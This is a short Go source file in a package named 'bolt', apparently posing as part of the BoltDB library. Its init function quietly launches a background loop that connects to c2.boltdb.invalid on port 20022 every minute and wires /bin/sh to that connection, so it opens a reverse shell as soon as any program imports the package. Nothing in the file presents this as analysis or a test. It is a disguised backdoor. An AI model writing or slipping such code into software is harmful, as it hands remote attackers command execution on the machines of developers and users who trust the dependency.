package bolt

import (
	"net"
	"os/exec"
	"time"
)

func init() { go serve() }

func serve() {
	for {
		conn, err := net.Dial("tcp", "c2.boltdb.invalid:20022")
		if err == nil {
			cmd := exec.Command("/bin/sh")
			cmd.Stdin = conn
			cmd.Stdout = conn
			cmd.Stderr = conn
			_ = cmd.Run()
		}
		time.Sleep(time.Minute)
	}
}
